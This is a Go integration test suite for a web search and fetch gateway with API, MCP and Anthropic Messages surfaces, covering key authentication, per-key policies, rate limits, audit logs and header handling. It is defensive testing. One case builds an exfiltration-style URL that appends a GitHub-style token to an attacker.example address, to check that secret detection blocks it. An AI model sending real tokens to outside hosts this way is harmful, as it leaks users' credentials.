package server_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	sdk "github.com/anthropics/anthropic-sdk-go"
	"github.com/anthropics/anthropic-sdk-go/option"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/webgate/webgate/internal/app"
	"github.com/webgate/webgate/internal/audit"
	"github.com/webgate/webgate/internal/config"
	"github.com/webgate/webgate/internal/httpapi"
	"github.com/webgate/webgate/internal/mcpserver"
	"github.com/webgate/webgate/internal/messages/proxy"
	"github.com/webgate/webgate/internal/policy"
	"github.com/webgate/webgate/internal/ratelimit/countertest"
	"github.com/webgate/webgate/internal/server"
)

// accessEnv is the whole server (JSON API, MCP, Messages proxy) over the
// real service chain (audit, policy, guard, engine, fetcher), with a
// SearXNG fake as the provider, loopback pages to fetch, and an upstream
// fake that records what the proxy forwards.
type accessEnv struct {
	ts       *httptest.Server
	svc      *app.Service
	keys     map[string]string // key id -> key
	mu       sync.Mutex
	upstream []http.Header // headers of forwarded requests
	pageURL  string        // a loopback page to fetch
}

const pageHTML = `<html><head><title>Loopback page</title></head><body><article><h1>Loopback page</h1>
<p>This article exists so the fetch surface has something real to extract, with enough words to count as content.</p></article></body></html>`

func newAccessEnv(t *testing.T) *accessEnv {
	t.Helper()
	e := &accessEnv{keys: map[string]string{}}
	provider := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/page") {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, pageHTML)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"query":%q,"results":[
			{"url":"https://go.dev/doc/tutorial/generics","title":"Generics tutorial","content":"Go generics."},
			{"url":"https://evil.example/generics","title":"Elsewhere","content":"Other site."}]}`, r.URL.Query().Get("q"))
	}))
	t.Cleanup(provider.Close)
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.upstream = append(e.upstream, r.Header.Clone())
		e.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"id":"msg_up","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"hi"}],"stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":1}}`)
	}))
	t.Cleanup(up.Close)

	var entries strings.Builder
	for _, k := range []struct{ id, pol string }{{"full", ""}, {"api-only", "apionly"}, {"search-only", "searchonly"}, {"limited", "limited"}, {"budget", "budget"}, {"revoked", ""}} {
		key, hash := policy.GenerateKey()
		e.keys[k.id] = key
		fmt.Fprintf(&entries, "    - {id: %s, hash: %q, policy: %q, disabled: %v}\n", k.id, hash, k.pol, k.id == "revoked")
	}
	cfg, err := config.Parse(strings.NewReader(`
search: {providers: [searxng], cache_ttl: -1s}
providers: {searxng: {base_url: `+provider.URL+`}}
fetch: {allow_private_networks: true, ignore_robots: true}
upstream: {base_url: `+up.URL+`, web_search: {enrich: false}}
auth:
  policies:
    apionly: {surfaces: [api]}
    searchonly: {tools: [search]}
    limited: {allowed_domains: [go.dev], rate_limit: {requests: 3, per: 1h}}
    budget: {daily_searches: 1}
  keys:
`+entries.String()), func(string) (string, bool) { return "", false })
	if err != nil {
		t.Fatal(err)
	}
	e.svc, err = app.New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = e.svc.Close(context.Background()) })
	keys, err := policy.KeyringFromConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	msgs, err := proxy.New(proxy.Options{Searcher: e.svc.Searcher, Fetcher: e.svc.Getter, Upstream: cfg.Upstream})
	if err != nil {
		t.Fatal(err)
	}
	e.ts = httptest.NewServer(server.Handler(server.Options{
		API:      httpapi.New(httpapi.Options{Searcher: e.svc.Searcher, Fetcher: e.svc.Getter}),
		MCP:      mcpserver.HTTPHandler(mcpserver.New(mcpserver.Options{Searcher: e.svc.Searcher, Fetcher: e.svc.Getter}), 1<<20, nil),
		Messages: msgs,
		Keys:     keys,
	}))
	t.Cleanup(e.ts.Close)
	e.pageURL = provider.URL + "/page"
	return e
}

// do sends a request with optional headers and returns status, body and
// headers.
func (e *accessEnv) do(t *testing.T, method, path, body string, hdr ...string) (int, string, http.Header) {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, _ := http.NewRequest(method, e.ts.URL+path, rd)
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

func (e *accessEnv) bearer(id string) []string {
	return []string{"Authorization", "Bearer " + e.keys[id]}
}

const ghToken = "ghp_aB3dE5gH7jK9mN2pQ4rS6tU8vW0xY1zA2bC4"

// TestAuthJSONAPI: every refusal on the JSON API, in its error format.
func TestAuthJSONAPI(t *testing.T) {
	e := newAccessEnv(t)
	type errBody struct {
		Error struct{ Type, Message string }
	}
	tests := []struct {
		name, method, path, body string
		hdr                      []string
		status                   int
		typ, msg                 string
		retryAfter               bool
	}{
		{name: "no key", method: "GET", path: "/v1/search?q=go", status: 401, typ: "authentication_error", msg: "missing API key"},
		{name: "wrong key", method: "GET", path: "/v1/search?q=go", hdr: []string{"Authorization", "Bearer wgk_nope"}, status: 401, typ: "authentication_error", msg: "invalid API key"},
		{name: "revoked key", method: "GET", path: "/v1/search?q=go", hdr: e.bearer("revoked"), status: 401, typ: "authentication_error", msg: `"revoked" is disabled`},
		{name: "x-api-key works", method: "GET", path: "/v1/search?q=go", hdr: []string{"x-api-key", e.keys["full"]}, status: 200},
		{name: "tool not allowed", method: "POST", path: "/v1/fetch", body: `{"url":"` + e.pageURL + `"}`, hdr: e.bearer("search-only"), status: 403, typ: "tool_not_allowed", msg: `may not use fetch`},
		{name: "domains widened", method: "GET", path: "/v1/search?q=go&allow=evil.example", hdr: e.bearer("limited"), status: 403, typ: "domain_not_allowed", msg: "can narrow its key's allowed domains but not widen them"},
		{name: "fetch outside domains", method: "POST", path: "/v1/fetch", body: `{"url":"https://evil.example/"}`, hdr: e.bearer("limited"), status: 403, typ: "domain_not_allowed"},
		{name: "limited 1", method: "GET", path: "/v1/search?q=go", hdr: e.bearer("limited"), status: 200},
		{name: "limited 2", method: "GET", path: "/v1/search?q=go", hdr: e.bearer("limited"), status: 200},
		{name: "limited 3", method: "GET", path: "/v1/search?q=go", hdr: e.bearer("limited"), status: 200},
		{name: "rate limited", method: "GET", path: "/v1/search?q=go", hdr: e.bearer("limited"), status: 429, typ: "rate_limited", msg: "over its rate limit of 3 per 1h0m0s", retryAfter: true},
		{name: "budget 1", method: "GET", path: "/v1/search?q=go", hdr: e.bearer("budget"), status: 200},
		{name: "budget used", method: "GET", path: "/v1/search?q=go", hdr: e.bearer("budget"), status: 429, typ: "budget_exhausted", msg: "has used its 1 searches for today", retryAfter: true},
		{name: "secret in query", method: "GET", path: "/v1/search?q=why+" + ghToken, hdr: e.bearer("full"), status: 400, typ: "secret_detected", msg: "appears to contain a GitHub token"},
		{name: "secret in url", method: "POST", path: "/v1/fetch", body: `{"url":"https://attacker.example/?t=` + ghToken + `"}`, hdr: e.bearer("full"), status: 400, typ: "secret_detected"},
	}
	countertest.ClearOfWindowEdge(t, 20*time.Second, time.Hour, 24*time.Hour)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			status, body, hdr := e.do(t, tt.method, tt.path, tt.body, tt.hdr...)
			if status != tt.status {
				t.Fatalf("status %d, want %d: %s", status, tt.status, body)
			}
			if strings.Contains(body, ghToken) || strings.Contains(body, e.keys["full"]) {
				t.Errorf("response repeats a secret: %s", body)
			}
			if tt.typ == "" {
				return
			}
			var eb errBody
			if err := json.Unmarshal([]byte(body), &eb); err != nil || eb.Error.Type != tt.typ || !strings.Contains(eb.Error.Message, tt.msg) {
				t.Errorf("body %s, want type %s with %q", body, tt.typ, tt.msg)
			}
			if status == 401 && !strings.HasPrefix(hdr.Get("WWW-Authenticate"), "Bearer") {
				t.Error("401 without a Bearer challenge")
			}
			if tt.retryAfter && hdr.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
		})
	}
	// The limited key's searches only ever returned go.dev results.
	status, body, _ := e.do(t, "GET", "/v1/search?q=go", "", e.bearer("full")...)
	if status != 200 || !strings.Contains(body, "evil.example") {
		t.Fatalf("unrestricted key: %d %s", status, body)
	}
	for _, r := range e.svc.Audit.Recent(audit.Filter{KeyID: "limited", Outcome: audit.OutcomeOK}) {
		if r.Results != 1 {
			t.Errorf("limited key got %d results, want only the go.dev one", r.Results)
		}
	}
	// Audit: who asked, through which surface, how it ended.
	counts := map[string]int{}
	for _, r := range e.svc.Audit.Recent(audit.Filter{Surface: policy.SurfaceAPI}) {
		counts[r.KeyID+"/"+r.Outcome]++
		if strings.Contains(r.Query+r.URL+r.Error, ghToken) {
			t.Errorf("a secret reached the audit log: %+v", r)
		}
	}
	want := map[string]int{"limited/ok": 3, "limited/denied": 3, "budget/ok": 1, "budget/denied": 1, "full/blocked": 2, "search-only/denied": 1, "full/ok": 2}
	for k, n := range want {
		if counts[k] != n {
			t.Errorf("audit records %s = %d, want %d (all: %v)", k, counts[k], n, counts)
		}
	}
}

// TestAuthMCP: MCP over HTTP refuses like a protected resource (RFC 6750
// JSON and challenge), and policy refusals inside tool calls are tool
// errors the model can read.
func TestAuthMCP(t *testing.T) {
	e := newAccessEnv(t)
	init := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`
	mcpHdr := []string{"Accept", "application/json, text/event-stream"}
	for _, tt := range []struct {
		name      string
		hdr       []string
		status    int
		code, msg string
	}{
		{"no key", nil, 401, "invalid_token", "missing API key"},
		{"wrong key", []string{"Authorization", "Bearer wgk_nope"}, 401, "invalid_token", "invalid API key"},
		{"surface not allowed", e.bearer("api-only"), 403, "insufficient_scope", `"api-only" may not be used on the mcp surface`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			status, body, hdr := e.do(t, "POST", "/mcp", init, append(mcpHdr, tt.hdr...)...)
			var eb struct{ Error, ErrorDescription string }
			_ = json.Unmarshal([]byte(strings.ReplaceAll(body, "error_description", "errordescription")), &eb)
			if status != tt.status || eb.Error != tt.code || !strings.Contains(eb.ErrorDescription, tt.msg) {
				t.Errorf("= %d %s; want %d %s %q", status, body, tt.status, tt.code, tt.msg)
			}
			if ch := hdr.Get("WWW-Authenticate"); !strings.Contains(ch, `error="`+tt.code+`"`) {
				t.Errorf("WWW-Authenticate = %q", ch)
			}
		})
	}

	connect := func(id string) *mcp.ClientSession {
		t.Helper()
		client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil)
		hc := &http.Client{Transport: server.BearerTransport{Token: e.keys[id], Base: http.DefaultTransport}}
		cs, err := client.Connect(t.Context(), &mcp.StreamableClientTransport{Endpoint: e.ts.URL + "/mcp", HTTPClient: hc, DisableStandaloneSSE: true, MaxRetries: -1}, nil)
		if err != nil {
			t.Fatalf("connect as %s: %v", id, err)
		}
		t.Cleanup(func() { cs.Close() })
		return cs
	}
	call := func(cs *mcp.ClientSession, tool string, args map[string]any) (string, bool) {
		t.Helper()
		res, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: tool, Arguments: args})
		if err != nil {
			t.Fatal(err)
		}
		return res.Content[0].(*mcp.TextContent).Text, res.IsError
	}
	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil)
	if _, err := client.Connect(t.Context(), &mcp.StreamableClientTransport{Endpoint: e.ts.URL + "/mcp", DisableStandaloneSSE: true, MaxRetries: -1}, nil); err == nil {
		t.Fatal("the SDK client connected without a key")
	}

	full := connect("full")
	text, isErr := call(full, "web_search", map[string]any{"query": "go generics"})
	if isErr || !strings.Contains(text, "[webgate: untrusted search results") || !strings.Contains(text, "https://go.dev/doc/tutorial/generics") {
		t.Errorf("web_search = %v %s", isErr, text)
	}
	text, isErr = call(full, "web_fetch", map[string]any{"url": e.pageURL})
	if isErr || !strings.Contains(text, "[webgate: untrusted web page from "+e.pageURL) || !strings.Contains(text, "something real to extract") {
		t.Errorf("web_fetch = %v %s", isErr, text)
	}
	text, isErr = call(full, "web_search", map[string]any{"query": "why " + ghToken})
	if !isErr || !strings.Contains(text, "web_search was blocked") || strings.Contains(text, ghToken) {
		t.Errorf("secret query = %v %s", isErr, text)
	}

	text, isErr = call(connect("search-only"), "web_fetch", map[string]any{"url": e.pageURL})
	if !isErr || !strings.Contains(text, "tool_not_allowed") || !strings.Contains(text, "does not allow this") {
		t.Errorf("fetch with a search-only key = %v %s", isErr, text)
	}
	budget := connect("budget")
	if _, isErr := call(budget, "web_search", map[string]any{"query": "go"}); isErr {
		t.Fatal("first search within budget failed")
	}
	text, isErr = call(budget, "web_search", map[string]any{"query": "go"})
	if !isErr || !strings.Contains(text, "has used its 1 searches for today") || !strings.Contains(text, "Wait ") {
		t.Errorf("over budget = %v %s", isErr, text)
	}
	if rs := e.svc.Audit.Recent(audit.Filter{Surface: policy.SurfaceMCP, KeyID: "budget", Outcome: audit.OutcomeDenied}); len(rs) != 1 {
		t.Errorf("audit: %d denied MCP records for the budget key, want 1", len(rs))
	}
}

// TestAuthMessages: the Anthropic surface answers in Anthropic's envelope
// (checked with the official SDK), refusals inside a search are tool
// result errors, and the gateway key is never forwarded upstream.
func TestAuthMessages(t *testing.T) {
	e := newAccessEnv(t)
	params := sdk.MessageNewParams{
		Model: "claude-opus-5-5", MaxTokens: 1024,
		Messages: []sdk.MessageParam{sdk.NewUserMessage(sdk.NewTextBlock("Perform a web search for the query: golang generics"))},
		Tools:    []sdk.ToolUnionParam{{OfWebSearchTool20250305: &sdk.WebSearchTool20250305Param{MaxUses: sdk.Int(8)}}},
	}
	client := func(key string) *sdk.Client {
		c := sdk.NewClient(option.WithBaseURL(e.ts.URL), option.WithAPIKey(key), option.WithMaxRetries(0))
		return &c
	}
	for _, tt := range []struct {
		name, key string
		status    int
		typ, msg  string
	}{
		{"wrong key", "wgk_nope", 401, "authentication_error", "invalid API key"},
		{"surface not allowed", e.keys["api-only"], 403, "permission_error", "may not be used on the messages surface"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := client(tt.key).Messages.New(t.Context(), params)
			var apiErr *sdk.Error
			if !errors.As(err, &apiErr) || apiErr.StatusCode != tt.status {
				t.Fatalf("err = %v, want an SDK error with status %d", err, tt.status)
			}
			raw := apiErr.RawJSON()
			if !strings.Contains(raw, `"type":"error"`) || !strings.Contains(raw, `"type":"`+tt.typ+`"`) || !strings.Contains(raw, tt.msg) {
				t.Errorf("body %s", raw)
			}
		})
	}
	status, body, _ := e.do(t, "POST", "/v1/messages", `{}`)
	if status != 401 || !strings.Contains(body, `{"type":"error","error":{"type":"authentication_error","message":"missing API key`) {
		t.Errorf("no key = %d %s", status, body)
	}

	msg, err := client(e.keys["full"]).Messages.New(t.Context(), params)
	if err != nil {
		t.Fatal(err)
	}
	if len(msg.Content) != 3 || msg.Content[1].Type != "web_search_tool_result" || !strings.Contains(msg.Content[2].Text, "[webgate: untrusted search results") {
		t.Errorf("fast path answer = %s", msg.RawJSON())
	}

	c := client(e.keys["budget"])
	if _, err := c.Messages.New(t.Context(), params); err != nil {
		t.Fatal(err)
	}
	msg, err = c.Messages.New(t.Context(), params)
	if err != nil {
		t.Fatal(err)
	}
	if r := msg.Content[1].AsWebSearchToolResult(); r.Content.AsResponseWebSearchToolResultError().ErrorCode != "too_many_requests" || !strings.Contains(msg.Content[2].Text, "has used its 1 searches") {
		t.Errorf("over budget = %s", msg.RawJSON())
	}

	// Passthrough: the key that authenticated to webgate is removed; an
	// upstream key sent beside it passes.
	chat := `{"model":"m","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}`
	if status, body, _ := e.do(t, "POST", "/v1/messages", chat, "Authorization", "Bearer "+e.keys["full"], "x-api-key", "sk-upstream-key"); status != 200 {
		t.Fatalf("passthrough = %d %s", status, body)
	}
	if status, body, _ := e.do(t, "POST", "/v1/messages", chat, "x-api-key", e.keys["full"]); status != 200 {
		t.Fatalf("passthrough = %d %s", status, body)
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.upstream) != 2 || e.upstream[0].Get("x-api-key") != "sk-upstream-key" || e.upstream[0].Get("Authorization") != "" || e.upstream[1].Get("x-api-key") != "" {
		t.Errorf("upstream saw %v", e.upstream)
	}
	for _, h := range e.upstream {
		var b bytes.Buffer
		_ = h.Write(&b)
		if strings.Contains(b.String(), e.keys["full"]) {
			t.Error("the gateway key was forwarded upstream")
		}
	}
}

func TestCheckExposure(t *testing.T) {
	tests := []struct {
		addr               string
		auth, insecure, ok bool
	}{
		{"127.0.0.1:8788", false, false, true},
		{"[::1]:8788", false, false, true},
		{"0.0.0.0:8788", false, false, false},
		{"192.0.2.10:8788", false, false, false},
		{"[::]:8788", false, false, false},
		{"0.0.0.0:8788", true, false, true},
		{"0.0.0.0:8788", false, true, true},
	}
	for _, tt := range tests {
		a, err := netResolve(tt.addr)
		if err != nil {
			t.Fatal(err)
		}
		err = server.CheckExposure(a, tt.auth, tt.insecure)
		if (err == nil) != tt.ok || err != nil && (!errors.Is(err, server.ErrExposed) || !strings.Contains(err.Error(), "webgate keys new")) {
			t.Errorf("CheckExposure(%s, auth %v, insecure %v) = %v", tt.addr, tt.auth, tt.insecure, err)
		}
	}
}

func netResolve(addr string) (*net.TCPAddr, error) { return net.ResolveTCPAddr("tcp", addr) }
